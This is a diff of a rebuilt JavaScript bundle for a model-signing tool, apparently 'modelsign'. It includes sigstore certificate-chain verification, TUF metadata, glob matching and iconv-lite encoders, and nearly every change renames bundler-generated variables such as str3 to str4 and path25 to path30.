-      if (!isObject(d)) bad5(`datasets[${i}] must be an object`);
+      if (!isObject(d)) bad7(`datasets[${i}] must be an object`);
       const q2 = d;
-      onlyKeys(q2, ["uri", "digest"], `datasets[${i}]`, bad5);
-      if (typeof q2.uri !== "string" || q2.uri.length === 0 || q2.uri.length > MAX_URI_LENGTH || hasControl(q2.uri)) bad5(`datasets[${i}].uri must be a non-empty string`);
+      onlyKeys(q2, ["uri", "digest"], `datasets[${i}]`, bad7);
+      if (typeof q2.uri !== "string" || q2.uri.length === 0 || q2.uri.length > MAX_URI_LENGTH || hasControl(q2.uri)) bad7(`datasets[${i}].uri must be a non-empty string`);
       const r = { uri: q2.uri };
       if (q2.digest !== void 0) {
-        if (typeof q2.digest !== "string" || !DIGEST_RE.test(q2.digest)) bad5(`datasets[${i}].digest must be sha256:<64 lowercase hex>`);
+        if (typeof q2.digest !== "string" || !DIGEST_RE.test(q2.digest)) bad7(`datasets[${i}].digest must be sha256:<64 lowercase hex>`);
         r.digest = q2.digest;
       }
       return r;
@@ -17110,8 +17113,8 @@ __export(load_exports, {
   validatePolicy: () => validatePolicy
 });
 import path4 from "node:path";
-function invalid(file, where, msg) {
-  return new ModelsignError("POLICY_INVALID", `policy ${file}: ${where ? `${where}: ` : ""}${msg}`, { kind: "usage" });
+function invalid(file, where2, msg) {
+  return new ModelsignError("POLICY_INVALID", `policy ${file}: ${where2 ? `${where2}: ` : ""}${msg}`, { kind: "usage" });
 }
 function suggest(name2, known) {
   if (name2.length > 64) return ` (known fields: ${known.join(", ")})`;
@@ -17881,11 +17884,11 @@ var require_encoding = __commonJS({
     exports.base64Decode = base64Decode;
     var BASE64_ENCODING = "base64";
     var UTF8_ENCODING = "utf-8";
-    function base64Encode(str3) {
-      return Buffer.from(str3, UTF8_ENCODING).toString(BASE64_ENCODING);
+    function base64Encode(str4) {
+      return Buffer.from(str4, UTF8_ENCODING).toString(BASE64_ENCODING);
     }
-    function base64Decode(str3) {
-      return Buffer.from(str3, BASE64_ENCODING).toString(UTF8_ENCODING);
+    function base64Decode(str4) {
+      return Buffer.from(str4, BASE64_ENCODING).toString(UTF8_ENCODING);
     }
   }
 });
@@ -20664,15 +20667,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path31) => path31.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path25].slice(0, -1);
+        const path30 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path30].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20731,30 +20734,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path25) {
-        if (path25.length < 1) {
+      checkPath(path30) {
+        if (path30.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path25.slice(1).every((cert) => cert.isCA);
+        const validCAs = path30.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path25.length - 2; i >= 0; i--) {
-          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
+        for (let i = path30.length - 2; i >= 0; i--) {
+          if (!path30[i].issuer.equals(path30[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path25.length; i++) {
-          const cert = path25[i];
+        for (let i = 0; i < path30.length; i++) {
+          const cert = path30[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20858,13 +20861,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path25 = [];
+      let path30 = [];
       timestamps.forEach((timestamp) => {
-        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path30 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
-        signer: getSigner(path25[0])
+        scts: (0, sct_1.verifySCTs)(path30[0], path30[1], trustMaterial.ctlogs),
+        signer: getSigner(path30[0])
       };
     }
     function getSigner(cert) {
@@ -21502,8 +21505,8 @@ var require_intoto = __commonJS({
         });
       }
     }
-    function base64Decode(str3) {
-      return Buffer.from(str3, "base64").toString("utf-8");
+    function base64Decode(str4) {
+      return Buffer.from(str4, "base64").toString("utf-8");
     }
   }
 });
@@ -22275,8 +22278,8 @@ var require_base = __commonJS({
       }
     };
     exports.Signed = Signed;
-    function isNumeric(str3) {
-      return !isNaN(Number(str3));
+    function isNumeric(str4) {
+      return !isNaN(Number(str4));
     }
   }
 });
@@ -22430,7 +22433,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path25, data) {
+      static fromJSON(path30, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -22440,7 +22443,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path25,
+          path: path30,
           hashes,
           unrecognizedFields: rest
         });
@@ -22720,38 +22723,38 @@ var require_commonjs = __commonJS({
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.range = exports.balanced = void 0;
-    var balanced = (a, b2, str3) => {
-      const ma = a instanceof RegExp ? maybeMatch(a, str3) : a;
-      const mb = b2 instanceof RegExp ? maybeMatch(b2, str3) : b2;
-      const r = ma !== null && mb != null && (0, exports.range)(ma, mb, str3);
+    var balanced = (a, b2, str4) => {
+      const ma = a instanceof RegExp ? maybeMatch(a, str4) : a;
+      const mb = b2 instanceof RegExp ? maybeMatch(b2, str4) : b2;
+      const r = ma !== null && mb != null && (0, exports.range)(ma, mb, str4);
       return r && {
         start: r[0],
         end: r[1],
-        pre: str3.slice(0, r[0]),
-        body: str3.slice(r[0] + ma.length, r[1]),
-        post: str3.slice(r[1] + mb.length)
+        pre: str4.slice(0, r[0]),
+        body: str4.slice(r[0] + ma.length, r[1]),
+        post: str4.slice(r[1] + mb.length)
       };
     };
     exports.balanced = balanced;
-    var maybeMatch = (reg, str3) => {
-      const m2 = str3.match(reg);
+    var maybeMatch = (reg, str4) => {
+      const m2 = str4.match(reg);
       return m2 ? m2[0] : null;
     };
-    var range = (a, b2, str3) => {
+    var range = (a, b2, str4) => {
       let begs, beg, left, right = void 0, result;
-      let ai2 = str3.indexOf(a);
-      let bi2 = str3.indexOf(b2, ai2 + 1);
+      let ai2 = str4.indexOf(a);
+      let bi2 = str4.indexOf(b2, ai2 + 1);
       let i = ai2;
       if (ai2 >= 0 && bi2 > 0) {
         if (a === b2) {
           return [ai2, bi2];
         }
         begs = [];
-        left = str3.length;
+        left = str4.length;
         while (i >= 0 && !result) {
           if (i === ai2) {
             begs.push(i);
-            ai2 = str3.indexOf(a, i + 1);
+            ai2 = str4.indexOf(a, i + 1);
           } else if (begs.length === 1) {
             const r = begs.pop();
             if (r !== void 0)
@@ -22762,7 +22765,7 @@ var require_commonjs = __commonJS({
               left = beg;
               right = bi2;
             }
-            bi2 = str3.indexOf(b2, i + 1);
+            bi2 = str4.indexOf(b2, i + 1);
           }
           i = ai2 < bi2 && ai2 >= 0 ? ai2 : bi2;
         }
@@ -22805,86 +22808,86 @@ var require_commonjs2 = __commonJS({
     exports.EXPANSION_MAX_REWRITES = 1e3;
     exports.EXPANSION_MAX_STEPS = 2e7;
     var CALL_STEPS = 16;
-    function numeric(str3) {
-      return !isNaN(str3) ? parseInt(str3, 10) : str3.charCodeAt(0);
+    function numeric(str4) {
+      return !isNaN(str4) ? parseInt(str4, 10) : str4.charCodeAt(0);
     }
-    function escapeBraces(str3) {
-      return str3.replace(slashPattern, escSlash).replace(openPattern, escOpen).replace(closePattern, escClose).replace(commaPattern, escComma).replace(periodPattern, escPeriod);
+    function escapeBraces(str4) {
+      return str4.replace(slashPattern, escSlash).replace(openPattern, escOpen).replace(closePattern, escClose).replace(commaPattern, escComma).replace(periodPattern, escPeriod);
     }
-    function unescapeBraces(str3) {
-      return str3.replace(escSlashPattern, "\\").replace(escOpenPattern, "{").replace(escClosePattern, "}").replace(escCommaPattern, ",").replace(escPeriodPattern, ".");
+    function unescapeBraces(str4) {
+      return str4.replace(escSlashPattern, "\\").replace(escOpenPattern, "{").replace(escClosePattern, "}").replace(escCommaPattern, ",").replace(escPeriodPattern, ".");
     }
     function pushAll(target, items) {
       for (let i = 0; i < items.length; i++) {
         target.push(items[i]);
       }
     }
-    function balancedWithBudget(str3, masked, budget) {
+    function balancedWithBudget(str4, masked, budget) {
       if (budget.remaining < 0) {
         return void 0;
       }
       const r = (0, balanced_match_1.range)("{", "}", masked);
       const unmatched = r !== void 0 && masked.indexOf("{") < r[0];
-      budget.remaining -= r && !unmatched ? r[1] + 1 : str3.length;
+      budget.remaining -= r && !unmatched ? r[1] + 1 : str4.length;
       if (!r || budget.remaining < 0) {
         return void 0;
       }
       return {
         end: r[1],
-        pre: str3.slice(0, r[0]),
-        body: str3.slice(r[0] + 1, r[1]),
-        post: str3.slice(r[1] + 1),
+        pre: str4.slice(0, r[0]),
+        body: str4.slice(r[0] + 1, r[1]),
+        post: str4.slice(r[1] + 1),
         unmatched
       };
     }
     function maskUnmatchedOpens(masked, budget) {
       budget.remaining -= masked.length;
-      const open9 = [];
+      const open10 = [];
       for (let i = 0; i < masked.length; i++) {
         const c = masked.charCodeAt(i);
         if (c === 123) {
-          open9.push(i);
-        } else if (c === 125 && open9.length) {
-          open9.pop();
+          open10.push(i);
+        } else if (c === 125 && open10.length) {
+          open10.pop();
         }
       }
       let out2 = "";
       let last = 0;
-      for (let i = 0; i < open9.length; i++) {
-        const at2 = open9[i];
+      for (let i = 0; i < open10.length; i++) {
+        const at2 = open10[i];
         out2 += masked.slice(last, at2) + "\0";
         last = at2 + 1;
       }
       return out2 + masked.slice(last);
     }
-    function commaSetFollows(str3, budget) {
-      budget.remaining -= str3.length;
+    function commaSetFollows(str4, budget) {
+      budget.remaining -= str4.length;
       if (budget.remaining < 0) {
         return false;
       }
       let close = false;
-      for (let i = str3.length - 1; i >= 0; i--) {
-        const c = str3.charCodeAt(i);
+      for (let i = str4.length - 1; i >= 0; i--) {
+        const c = str4.charCodeAt(i);
         if (c === 125) {
           close = true;
         } else if (c === 10 || c === 13 || c === 8232 || c === 8233) {
           close = false;
-        } else if (c === 44 && close && str3.charCodeAt(i + 1) !== 44) {
+        } else if (c === 44 && close && str4.charCodeAt(i + 1) !== 44) {
           return true;
         }
       }
       return false;
     }
-    function parseCommaParts(str3, budget) {
+    function parseCommaParts(str4, budget) {
       const parts = [];
       let carry = "";
       for (; ; ) {
-        const m2 = balancedWithBudget(str3, str3, budget);
+        const m2 = balancedWithBudget(str4, str4, budget);
         if (budget.remaining < 0) {
           return void 0;
         }
         if (!m2) {
-          const tail = str3.split(",");
+          const tail = str4.split(",");
           tail[0] = carry + tail[0];
           pushAll(parts, tail);
           return parts;
@@ -22899,14 +22902,14 @@ var require_commonjs2 = __commonJS({
         }
         carry = p2.pop();
         pushAll(parts, p2);
-        str3 = post;
+        str4 = post;
       }
     }
     function bound(value, fallback) {
       return value === void 0 || isNaN(value) ? fallback : value;
     }
-    function expand(str3, options = {}) {
-      if (!str3) {
+    function expand(str4, options = {}) {
+      if (!str4) {
         return [];
       }
       const max = bound(options.max, exports.EXPANSION_MAX);
@@ -22914,13 +22917,13 @@ var require_commonjs2 = __commonJS({
       const maxDepth = bound(options.maxDepth, exports.EXPANSION_MAX_DEPTH);
       const maxRewrites = bound(options.maxRewrites, exports.EXPANSION_MAX_REWRITES);
       const maxSteps = bound(options.maxSteps, exports.EXPANSION_MAX_STEPS);
-      if (str3.slice(0, 2) === "{}") {
-        str3 = "\\{\\}" + str3.slice(2);
+      if (str4.slice(0, 2) === "{}") {
+        str4 = "\\{\\}" + str4.slice(2);
       }
-      return expand_(escapeBraces(str3), max, maxLength, maxDepth, 0, maxRewrites, { remaining: maxSteps }, true).map(unescapeBraces);
+      return expand_(escapeBraces(str4), max, maxLength, maxDepth, 0, maxRewrites, { remaining: maxSteps }, true).map(unescapeBraces);
     }
-    function embrace(str3) {
-      return "{" + str3 + "}";
+    function embrace(str4) {
+      return "{" + str4 + "}";
     }
     function isPadded(el) {
       return /^-?0\d/.test(el);
@@ -23007,20 +23010,20 @@ var require_commonjs2 = __commonJS({
       }
       return N2;
     }
-    function expand_(str3, max, maxLength, maxDepth, depth, maxRewrites, budget, isTop) {
+    function expand_(str4, max, maxLength, maxDepth, depth, maxRewrites, budget, isTop) {
       budget.remaining -= CALL_STEPS;
       if (depth > maxDepth) {
-        return [str3];
+        return [str4];
       }
       let acc = [""];
       let rewrites = 0;
       let dropEmpties = false;
       let firstGroup = true;
-      let masked = str3;
+      let masked = str4;
       for (; ; ) {
-        const m2 = balancedWithBudget(str3, masked, budget);
+        const m2 = balancedWithBudget(str4, masked, budget);
         if (!m2) {
-          return combine(acc, str3, [""], max, maxLength, dropEmpties, budget);
+          return combine(acc, str4, [""], max, maxLength, dropEmpties, budget);
         }
         if (m2.unmatched) {
           masked = maskUnmatchedOpens(masked, budget);
@@ -23032,7 +23035,7 @@ var require_commonjs2 = __commonJS({
           firstGroup = false;
           if (!m2.post.length)
             break;
-          str3 = m2.post;
+          str4 = m2.post;
           masked = masked.slice(m2.end + 1);
           continue;
         }
@@ -23043,7 +23046,7 @@ var require_commonjs2 = __commonJS({
         if (!isSequence && !isOptions) {
           if (rewrites < maxRewrites && commaSetFollows(m2.post, budget)) {
             rewrites++;
-            str3 = m2.pre + "{" + m2.body + escClose + m2.post;
+            str4 = m2.pre + "{" + m2.body + escClose + m2.post;
             masked = masked.slice(0, m2.end) + escClose + masked.slice(m2.end + 1);
             isTop = true;
             continue;
@@ -23078,7 +23081,7 @@ var require_commonjs2 = __commonJS({
               acc = next2;
               if (!m2.post.length)
                 break;
-              str3 = m2.post;
+              str4 = m2.post;
               masked = masked.slice(m2.end + 1);
               continue;
             }
@@ -23115,7 +23118,7 @@ var require_commonjs2 = __commonJS({
         acc = next;
         if (!m2.post.length)
           break;
-        str3 = m2.post;
+        str4 = m2.post;
         masked = masked.slice(m2.end + 1);
       }
       return acc;
@@ -23489,7 +23492,7 @@ var require_ast = __commonJS({
         }
         return c;
       }
-      static #parseAST(str3, ast, pos, opt, extDepth) {
+      static #parseAST(str4, ast, pos, opt, extDepth) {
         const maxDepth = opt.maxExtglobRecursion ?? 2;
         let escaping = false;
         let inBrace = false;
@@ -23498,8 +23501,8 @@ var require_ast = __commonJS({
         if (ast.type === null) {
           let i2 = pos;
           let acc2 = "";
-          while (i2 < str3.length) {
-            const c = str3.charAt(i2++);
+          while (i2 < str4.length) {
+            const c = str4.charAt(i2++);
             if (escaping || c === "\\") {
               escaping = !escaping;
               acc2 += c;
@@ -23522,12 +23525,12 @@ var require_ast = __commonJS({
               acc2 += c;
               continue;
             }
-            const doRecurse = !opt.noext && isExtglobType(c) && str3.charAt(i2) === "(" && extDepth <= maxDepth;
+            const doRecurse = !opt.noext && isExtglobType(c) && str4.charAt(i2) === "(" && extDepth <= maxDepth;
             if (doRecurse) {
               ast.push(acc2);
               acc2 = "";
               const ext2 = new _a(c, ast);
-              i2 = _a.#parseAST(str3, ext2, i2, opt, extDepth + 1);
+              i2 = _a.#parseAST(str4, ext2, i2, opt, extDepth + 1);
               ast.push(ext2);
               continue;
             }
@@ -23540,8 +23543,8 @@ var require_ast = __commonJS({
         let part = new _a(null, ast);
         const parts = [];
         let acc = "";
-        while (i < str3.length) {
-          const c = str3.charAt(i++);
+        while (i < str4.length) {
+          const c = str4.charAt(i++);
           if (escaping || c === "\\") {
             escaping = !escaping;
             acc += c;
@@ -23564,7 +23567,7 @@ var require_ast = __commonJS({
             acc += c;
             continue;
           }
-          const doRecurse = !opt.noext && isExtglobType(c) && str3.charAt(i) === "(" && /* c8 ignore start - the maxDepth is sufficient here */
+          const doRecurse = !opt.noext && isExtglobType(c) && str4.charAt(i) === "(" && /* c8 ignore start - the maxDepth is sufficient here */
           (extDepth <= maxDepth || ast && ast.#canAdoptType(c));
           if (doRecurse) {
             const depthAdd = ast && ast.#canAdoptType(c) ? 0 : 1;
@@ -23572,7 +23575,7 @@ var require_ast = __commonJS({
             acc = "";
             const ext2 = new _a(c, part);
             part.push(ext2);
-            i = _a.#parseAST(str3, ext2, i, opt, extDepth + depthAdd);
+            i = _a.#parseAST(str4, ext2, i, opt, extDepth + depthAdd);
             continue;
           }
           if (c === "|") {
@@ -23595,7 +23598,7 @@ var require_ast = __commonJS({
         }
         ast.type = null;
         ast.#hasMagic = void 0;
-        ast.#parts = [str3.substring(pos - 1)];
+        ast.#parts = [str4.substring(pos - 1)];
         return i;
       }
       #canAdoptWithSpace(child) {
@@ -24015,11 +24018,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path25 = {
+    var path30 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path30.win32.sep : path30.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -24695,10 +24698,10 @@ var require_commonjs3 = __commonJS({
           }
           return filtered.join("/");
         }).join("|");
-        const [open9, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
-        re2 = "^" + open9 + re2 + close + "$";
+        const [open10, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
+        re2 = "^" + open10 + re2 + close + "$";
         if (this.partial) {
-          re2 = "^(?:\\/|" + open9 + re2.slice(1, -1) + close + ")$";
+          re2 = "^(?:\\/|" + open10 + re2.slice(1, -1) + close + ")$";
         }
         if (this.negate)
           re2 = "^(?!" + re2 + ").+$";
@@ -25247,9 +25250,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path30, metadata]) => ({
         ...acc,
-        [path25]: metadata.toJSON()
+        [path30]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25258,9 +25261,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path30, metadata]) => ({
             ...acc,
-            [path25]: file_1.MetaFile.fromJSON(metadata)
+            [path30]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25442,9 +25445,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path25, target]) => ({
+      return Object.entries(targets).reduce((acc, [path30, target]) => ({
         ...acc,
-        [path25]: target.toJSON()
+        [path30]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25453,9 +25456,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path30, target]) => ({
             ...acc,
-            [path25]: file_1.TargetFile.fromJSON(path25, target)
+            [path30]: file_1.TargetFile.fromJSON(path30, target)
           }), {});
         }
       }
@@ -25747,13 +25750,13 @@ var require_ms = __commonJS({
         "val is not a non-empty string or a valid number. val=" + JSON.stringify(val)
       );
     };
-    function parse2(str3) {
-      str3 = String(str3);
-      if (str3.length > 100) {
+    function parse2(str4) {
+      str4 = String(str4);
+      if (str4.length > 100) {
         return;
       }
       var match = /^(-?(?:\d+)?\.?\d+) *(milliseconds?|msecs?|ms|seconds?|secs?|s|minutes?|mins?|m|hours?|hrs?|h|days?|d|weeks?|w|years?|yrs?|y)?$/i.exec(
-        str3
+        str4
       );
       if (!match) {
         return;
@@ -26354,7 +26357,7 @@ var require_node = __commonJS({
     var { formatters } = module.exports;
     formatters.o = function(v2) {
       this.inspectOpts.colors = this.useColors;
-      return util.inspect(v2, this.inspectOpts).split("\n").map((str3) => str3.trim()).join(" ");
+      return util.inspect(v2, this.inspectOpts).split("\n").map((str4) => str4.trim()).join(" ");
     };
     formatters.O = function(v2) {
       this.inspectOpts.colors = this.useColors;
@@ -28006,12 +28009,12 @@ var require_bom_handling = __commonJS({
       this.encoder = encoder;
       this.addBOM = true;
     }
-    PrependBOMWrapper.prototype.write = function(str3) {
+    PrependBOMWrapper.prototype.write = function(str4) {
       if (this.addBOM) {
-        str3 = BOMChar + str3;
+        str4 = BOMChar + str4;
         this.addBOM = false;
       }
-      return this.encoder.write(str3);
+      return this.encoder.write(str4);
     };
     PrependBOMWrapper.prototype.end = function() {
       return this.encoder.end();
@@ -28110,31 +28113,31 @@ var require_internal = __commonJS({
     function InternalEncoder(options, codec) {
       this.enc = codec.enc;
     }
-    InternalEncoder.prototype.write = function(str3) {
-      return Buffer2.from(str3, this.enc);
+    InternalEncoder.prototype.write = function(str4) {
+      return Buffer2.from(str4, this.enc);
     };
     InternalEncoder.prototype.end = function() {
     };
     function InternalEncoderBase64(options, codec) {
       this.prevStr = "";
     }
-    InternalEncoderBase64.prototype.write = function(str3) {
-      str3 = this.prevStr + str3;
-      var completeQuads = str3.length - str3.length % 4;
-      this.prevStr = str3.slice(completeQuads);
-      str3 = str3.slice(0, completeQuads);
-      return Buffer2.from(str3, "base64");
+    InternalEncoderBase64.prototype.write = function(str4) {
+      str4 = this.prevStr + str4;
+      var completeQuads = str4.length - str4.length % 4;
+      this.prevStr = str4.slice(completeQuads);
+      str4 = str4.slice(0, completeQuads);
+      return Buffer2.from(str4, "base64");
     };
     InternalEncoderBase64.prototype.end = function() {
       return Buffer2.from(this.prevStr, "base64");
     };
     function InternalEncoderCesu8(options, codec) {
     }
-    InternalEncoderCesu8.prototype.write = function(str3) {
-      var buf = Buffer2.alloc(str3.length * 3);
+    InternalEncoderCesu8.prototype.write = function(str4) {
+      var buf = Buffer2.alloc(str4.length * 3);
       var bufIdx = 0;
-      for (var i = 0; i < str3.length; i++) {
-        var charCode = str3.charCodeAt(i);
+      for (var i = 0; i < str4.length; i++) {
+        var charCode = str4.charCodeAt(i);
         if (charCode < 128) {
           buf[bufIdx++] = charCode;
         } else if (charCode < 2048) {
@@ -28215,25 +28218,25 @@ var require_internal = __commonJS({
     function InternalEncoderUtf8(options, codec) {
       this.highSurrogate = "";
     }
-    InternalEncoderUtf8.prototype.write = function(str3) {
+    InternalEncoderUtf8.prototype.write = function(str4) {
       if (this.highSurrogate) {
-        str3 = this.highSurrogate + str3;
+        str4 = this.highSurrogate + str4;
         this.highSurrogate = "";
       }
-      if (str3.length > 0) {
-        var charCode = str3.charCodeAt(str3.length - 1);
+      if (str4.length > 0) {
+        var charCode = str4.charCodeAt(str4.length - 1);
         if (charCode >= 55296 && charCode < 56320) {
-          this.highSurrogate = str3[str3.length - 1];
-          str3 = str3.slice(0, str3.length - 1);
+          this.highSurrogate = str4[str4.length - 1];
+          str4 = str4.slice(0, str4.length - 1);
         }
       }
-      return Buffer2.from(str3, this.enc);
+      return Buffer2.from(str4, this.enc);
     };
     InternalEncoderUtf8.prototype.end = function() {
       if (this.highSurrogate) {
-        var str3 = this.highSurrogate;
+        var str4 = this.highSurrogate;
         this.highSurrogate = "";
-        return Buffer2.from(str3, this.enc);
+        return Buffer2.from(str4, this.enc);
       }
     };
   }
@@ -28260,8 +28263,8 @@ var require_utf32 = __commonJS({
       this.isLE = codec.isLE;
       this.highSurrogate = 0;
     }
-    Utf32Encoder.prototype.write = function(str3) {
-      var src = Buffer2.from(str3, "ucs2");
+    Utf32Encoder.prototype.write = function(str4) {
+      var src = Buffer2.from(str4, "ucs2");
       var dst = Buffer2.alloc(src.length * 2 + 4);
       var write32 = this.isLE ? dst.writeUInt32LE : dst.writeUInt32BE;
       var offset = 0;
@@ -28386,8 +28389,8 @@ var require_utf32 = __commonJS({
       }
       this.encoder = codec.iconv.getEncoder(options.defaultEncoding || "utf-32le", options);
     }
-    Utf32AutoEncoder.prototype.write = function(str3) {
-      return this.encoder.write(str3);
+    Utf32AutoEncoder.prototype.write = function(str4) {
+      return this.encoder.write(str4);
     };
     Utf32AutoEncoder.prototype.end = function() {
       return this.encoder.end();
@@ -28487,8 +28490,8 @@ var require_utf16 = __commonJS({
     Utf16BECodec.prototype.bomAware = true;
     function Utf16BEEncoder() {
     }
-    Utf16BEEncoder.prototype.write = function(str3) {
-      var buf = Buffer2.from(str3, "ucs2");
+    Utf16BEEncoder.prototype.write = function(str4) {
+      var buf = Buffer2.from(str4, "ucs2");
       for (var i = 0; i < buf.length; i += 2) {
         var tmp = buf[i];
         buf[i] = buf[i + 1];
@@ -28537,8 +28540,8 @@ var require_utf16 = __commonJS({
       }
       this.encoder = codec.iconv.getEncoder("utf-16le", options);
     }
-    Utf16Encoder.prototype.write = function(str3) {
-      return this.encoder.write(str3);
+    Utf16Encoder.prototype.write = function(str4) {
+      return this.encoder.write(str4);
     };
     Utf16Encoder.prototype.end = function() {
       return this.encoder.end();
@@ -28634,8 +28637,8 @@ var require_utf7 = __commonJS({
     function Utf7Encoder(options, codec) {
       this.iconv = codec.iconv;
     }
-    Utf7Encoder.prototype.write = function(str3) {
-      return Buffer2.from(str3.replace(nonDirectChars, function(chunk) {
+    Utf7Encoder.prototype.write = function(str4) {
+      return Buffer2.from(str4.replace(nonDirectChars, function(chunk) {
         return "+" + (chunk === "+" ? "" : this.iconv.encode(chunk, "utf16-be").toString("base64").replace(/=+$/, "")) + "-";
       }.bind(this)));
     };
@@ -28719,14 +28722,14 @@ var require_utf7 = __commonJS({
       this.base64Accum = Buffer2.alloc(6);
       this.base64AccumIdx = 0;
     }
-    Utf7IMAPEncoder.prototype.write = function(str3) {
+    Utf7IMAPEncoder.prototype.write = function(str4) {
       var inBase64 = this.inBase64;
       var base64Accum = this.base64Accum;
       var base64AccumIdx = this.base64AccumIdx;
-      var buf = Buffer2.alloc(str3.length * 5 + 10);
+      var buf = Buffer2.alloc(str4.length * 5 + 10);
       var bufIdx = 0;
-      for (var i2 = 0; i2 < str3.length; i2++) {
-        var uChar = str3.charCodeAt(i2);
+      for (var i2 = 0; i2 < str4.length; i2++) {
+        var uChar = str4.charCodeAt(i2);
         if (uChar >= 32 && uChar <= 126) {
           if (inBase64) {
             if (base64AccumIdx > 0) {
@@ -28867,10 +28870,10 @@ var require_sbcs_codec = __commonJS({
     function SBCSEncoder(options, codec) {
       this.encodeBuf = codec.encodeBuf;
     }
-    SBCSEncoder.prototype.write = function(str3) {
-      var buf = Buffer2.alloc(str3.length);
-      for (var i = 0; i < str3.length; i++) {
-        buf[i] = this.encodeBuf[str3.charCodeAt(i)];
+    SBCSEncoder.prototype.write = function(str4) {
+      var buf = Buffer2.alloc(str4.length);
+      for (var i = 0; i < str4.length; i++) {
+        buf[i] = this.encodeBuf[str4.charCodeAt(i)];
       }
       return buf;
     };
@@ -29746,8 +29749,8 @@ var require_dbcs_codec = __commonJS({
       this.defaultCharSingleByte = codec.defCharSB;
       this.gb18030 = codec.gb18030;
     }
-    DBCSEncoder.prototype.write = function(str3) {
-      var newBuf = Buffer2.alloc(str3.length * (this.gb18030 ? 4 : 3));
+    DBCSEncoder.prototype.write = function(str4) {
+      var newBuf = Buffer2.alloc(str4.length * (this.gb18030 ? 4 : 3));
       var leadSurrogate = this.leadSurrogate;
       var seqObj = this.seqObj;
       var nextChar = -1;
@@ -29755,8 +29758,8 @@ var require_dbcs_codec = __commonJS({
       var j2 = 0;
       while (true) {
         if (nextChar === -1) {
-          if (i2 == str3.length) break;
-          var uCode = str3.charCodeAt(i2++);
+          if (i2 == str4.length) break;
+          var uCode = str4.charCodeAt(i2++);
         } else {
           var uCode = nextChar;
           nextChar = -1;
@@ -31493,14 +31496,14 @@ var require_streams = __commonJS({
     "use strict";
     var Buffer2 = require_safer().Buffer;
     module.exports = function(streamModule) {
-      var Transform2 = streamModule.Transform;
+      var Transform3 = streamModule.Transform;
       function IconvLiteEncoderStream(conv, options) {
         this.conv = conv;
         options = options || {};
         options.decodeStrings = false;
-        Transform2.call(this, options);
+        Transform3.call(this, options);
       }
-      IconvLiteEncoderStream.prototype = Object.create(Transform2.prototype, {
+      IconvLiteEncoderStream.prototype = Object.create(Transform3.prototype, {
         constructor: { value: IconvLiteEncoderStream }
       });
       IconvLiteEncoderStream.prototype._transform = function(chunk, encoding, done) {
@@ -31539,9 +31542,9 @@ var require_streams = __commonJS({
         this.conv = conv;
         options = options || {};
         options.encoding = this.encoding = "utf8";
-        Transform2.call(this, options);
+        Transform3.call(this, options);
       }
